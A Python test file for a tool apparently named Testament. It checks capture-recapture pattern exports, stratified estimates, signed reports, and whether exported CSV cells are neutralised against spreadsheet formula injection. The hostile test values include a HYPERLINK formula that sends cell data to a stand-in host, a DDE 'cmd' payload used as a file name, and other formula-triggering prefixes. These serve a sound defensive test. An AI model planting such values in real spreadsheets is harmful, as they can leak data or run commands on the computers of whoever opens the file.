"""`export patterns` on every backend: the file is Rcapture's format (one 0/1 column per list and a count),
`testament estimate FILE` gives the case's estimate from it, with `--lists` and `--strata` too; no CSV that
Testament exports holds a cell a spreadsheet would run; `export report` is signed and names its inputs."""

from __future__ import annotations

import csv
import io
import json
import random
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import insert, select, text, update

from testament.estimate.inputs import estimate_input, read_input
from testament.estimate.run import EstimateOptions
from testament.estimate.store import save_results
from testament.estimate.strata import StrataRule
from testament.exports.patterns import export_patterns
from testament.exports.public import export_public
from testament.exports.report import export_report
from testament.exports.standalone_verify import verify_bundle
from testament.ingest import IngestOptions, ingest_files
from testament.link.review import export_persons
from testament.settings import Settings
from testament.store.case import Case
from testament.store.crypto import generate_signing_key
from testament.store.custody import utc_now
from testament.store.ids import Ids
from testament.store.schema import claims, link_runs, person_records, persons
from tests.conftest import PG_URL

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+98 912 000", "-Reza Karimi", "@SUM(A1:A9)",
           "\tTabbed Name", "\rReturned Name"]  # fmt: skip
LISTS = ("=cmd|' -C calc'!A0.csv", "amnesty.csv", "families.csv")  # a list file named like a formula
N = 90


@pytest.fixture(
    scope="module",
    params=[
        pytest.param("sqlite", marks=pytest.mark.sqlite),
        pytest.param("postgres", marks=pytest.mark.postgres),
    ],
)
def linked(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Case]:
    """Three lists of N people (some with hostile names) caught at random, linked by name (as a linkage run
    would, without its cost), each with a prison for strata."""
    folder = tmp_path_factory.mktemp(f"patterns-{request.param}")
    options: dict[str, object] = {}
    schema = None
    if request.param == "postgres":
        schema = f"t_{uuid.uuid4().hex[:12]}"
        with request.getfixturevalue("pg_engine").begin() as conn:
            conn.execute(text(f'CREATE SCHEMA "{schema}"'))
        options["db_url"] = f"{PG_URL.replace('+psycopg', '')}?options=-csearch_path%3D{schema}"
    rng = random.Random(7)
    names = HOSTILE + [f"Victim {i:03d}" for i in range(N - len(HOSTILE))]
    paths = []
    for j, list_name in enumerate(LISTS):
        rows = [
            (name, "Evin" if i % 2 else "Gohardasht")
            for i, name in enumerate(names)
            if rng.random() < (0.5, 0.4, 0.3)[j]
        ]
        buffer = io.StringIO()
        writer = csv.writer(buffer)
        writer.writerow(["name", "prison"])
        writer.writerows(rows)
        (folder / list_name).write_text(buffer.getvalue(), "utf-8")
        paths.append(folder / list_name)
    case = Case.create(folder / "case", settings=Settings(actor="tester"), **options)
    report = ingest_files(case, paths, IngestOptions(kind="list"))
    assert report.ok, report.to_dict()
    with case.write() as conn:
        named = conn.execute(
            select(claims.c.subject_id, claims.c.value).where(claims.c.predicate == "name")
        ).all()
        index = {name.strip(): i for i, name in enumerate(names)}  # ingest trims blanks
        first = Ids(conn).take(persons, N)
        conn.execute(
            insert(persons),
            [{"id": first + i, "kind": "individual", "sensitivity": "internal"} for i in range(N)],
        )
        for record, value in named:
            conn.execute(
                update(person_records)
                .where(person_records.c.id == record)
                .values(person_id=first + index[value.strip()])
            )
        conn.execute(insert(link_runs), [{
            "id": 1, "created_at": utc_now(), "actor": "tester", "engine": "duckdb", "threshold": 0.5,
            "model_version": "test", "model": "{}", "input_hash": "0" * 64, "code_version": "test",
            "records": len(named), "candidate_pairs": 0, "persons": N, "labels": 0, "summary": "{}",
        }])  # fmt: skip
    assert len(named) > N  # people on several lists
    yield case
    case.close()
    if schema is not None:
        with request.getfixturevalue("pg_engine").begin() as conn:
            conn.execute(text(f'DROP SCHEMA "{schema}" CASCADE'))


def _rows(path: Path) -> tuple[list[str], list[list[str]]]:
    table = list(csv.reader(io.StringIO(path.read_text("utf-8"))))
    return table[0], table[1:]


def _same(a: list, b: list) -> None:
    assert [(r.method, r.model, r.stratum, r.estimate, r.lower, r.upper, r.observed) for r in a] == [
        (r.method, r.model, r.stratum, r.estimate, r.lower, r.upper, r.observed) for r in b
    ]


def test_pattern_file_is_rcapture_format_and_estimates_as_the_case(linked: Case, tmp_path: Path) -> None:
    out = tmp_path / "patterns.csv"
    export_patterns(linked, out)
    header, rows = _rows(out)
    # Rcapture's closedp(X, dfreq = TRUE): one 0/1 column per list, the frequency last; every pattern once
    assert header[-1] == "count" and len(header) == 4
    assert all(cell in ("0", "1") for row in rows for cell in row[:-1]) and all(
        row[-1].isdigit() for row in rows
    )
    assert (
        sorted(tuple(row[:-1]) for row in rows) == sorted({tuple(row[:-1]) for row in rows})
        and len(rows) == 7
    )
    assert header[0] == "'" + LISTS[0].removesuffix(".csv") or header[0].startswith("'=")  # neutralised
    options = EstimateOptions(methods=("loglinear",), model="Mt")
    from_case = estimate_input(read_input(linked), options)
    from_file = estimate_input(read_input(out), options)
    _same(from_case, from_file)
    assert from_case[0].input_sha256 == from_file[0].input_sha256


def test_pattern_subset_and_strata_estimate_as_the_case(linked: Case, tmp_path: Path) -> None:
    options = EstimateOptions(methods=("loglinear",), model="M0")
    rule = StrataRule(min_persons=5, min_overlap=1)
    out = tmp_path / "two.csv"
    export_patterns(linked, out, lists=["amnesty", "families.csv"])
    _same(
        estimate_input(read_input(linked, lists=["amnesty", "families"]), options),
        estimate_input(read_input(out), options),
    )
    out = tmp_path / "strata.csv"
    export_patterns(linked, out, strata="prison", rule=rule)
    header, rows = _rows(out)
    assert header[-2:] == ["count", "stratum"] and {row[-1] for row in rows} == {"Evin", "Gohardasht"}
    _same(
        estimate_input(read_input(linked, strata="prison", rule=rule), options),
        estimate_input(read_input(out, strata="stratum", rule=rule), options),
    )


def _would_run(cell: str) -> bool:
    """What a spreadsheet runs: a cell starting with a control character, or whose first non-blank
    character is = + - @ (or their full-width forms), unless it is a plain number."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    start = cell.lstrip(" \u00a0\u200b\u200c\u200d\ufeff")
    if start[:1] not in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
        return False
    try:
        float(start)
    except ValueError:
        return True
    return False


def _cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_text("utf-8"))) for cell in row]


def test_no_exported_cell_would_run_as_a_formula(linked: Case, tmp_path: Path) -> None:
    export_patterns(linked, tmp_path / "patterns.csv")
    export_public(linked, tmp_path / "public")
    export_persons(linked, tmp_path / "persons.csv")
    written = [
        tmp_path / "patterns.csv",
        tmp_path / "persons.csv",
        *sorted((tmp_path / "public").glob("*.csv")),
    ]
    seen_hostile = 0
    for path in written:
        for cell in _cells(path):
            assert not _would_run(cell), (path.name, cell)
            seen_hostile += cell.startswith("'")
    victims = (tmp_path / "public" / "victims.csv").read_text("utf-8")
    assert "'=HYPERLINK" in victims and "'@SUM" in victims and "'-Reza" in victims and "'+98" in victims
    assert seen_hostile >= len(HOSTILE)


def test_estimate_report_is_signed_and_names_its_inputs(linked: Case, tmp_path: Path) -> None:
    private, public = generate_signing_key()
    results = estimate_input(read_input(linked), EstimateOptions(methods=("loglinear",), model="Mt"))
    save_results(linked, results)
    out = tmp_path / "report.zip"
    export_report(linked, out, private)
    assert verify_bundle(out, public) == []
    with zipfile.ZipFile(out) as archive:
        report = json.loads(archive.read("report.json"))
        patterns = archive.read("patterns.csv")
        assert "plots/overlap.svg" in archive.namelist()
    newest = report["estimates"][0]
    assert newest["input_is_patterns_csv"] and newest["estimate"] == results[0].estimate
    assert report["linkage_run"]["id"] == 1
    (tmp_path / "p.csv").write_bytes(patterns)
    _same(
        results,
        estimate_input(read_input(tmp_path / "p.csv"), EstimateOptions(methods=("loglinear",), model="Mt")),
    )
